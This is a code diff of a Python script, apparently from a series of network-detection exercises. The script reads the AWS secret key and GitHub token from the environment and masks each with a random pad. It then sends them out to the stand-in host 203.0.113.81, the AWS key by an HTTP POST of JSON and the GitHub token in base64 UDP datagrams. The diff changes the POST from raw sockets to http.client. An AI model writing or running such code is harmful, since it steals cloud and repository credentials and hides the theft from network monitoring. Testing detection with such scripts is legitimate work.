@@ -2,10 +2,11 @@
 # session 24: a medium network finding; no repeating key undoes a key as
 # long as the value, but the receiver needs the key):
 #  - the AWS secret key in a JSON body, {"k": hex of the key, "d": hex of
-#    the ciphertext}, POSTed;
+#    the ciphertext}, POSTed with http.client;
 #  - the GitHub token's ciphertext and key in two UDP datagrams to one
 #    port, each base64.
 import base64
+import http.client
 import json
 import os
 import socket
@@ -17,17 +18,12 @@ def pad(value):
 
 
 k, d = pad(os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode())
-body = json.dumps({"k": k.hex(), "d": d.hex()}).encode()
-s = socket.socket()
-s.settimeout(3)
 try:
-    s.connect(("203.0.113.81", 80))
-    s.sendall(b"POST /p HTTP/1.1\r\nHost: p\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
-    s.recv(100)
+    c = http.client.HTTPConnection("203.0.113.81", 80, timeout=3)
+    c.request("POST", "/p", json.dumps({"k": k.hex(), "d": d.hex()}), {"Content-Type": "application/json"})
+    c.getresponse().read()
 except OSError as e:
     print("post", e)
-finally:
-    s.close()
 k, d = pad(os.environ.get("GITHUB_TOKEN", "").encode())
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for part in (d, k):
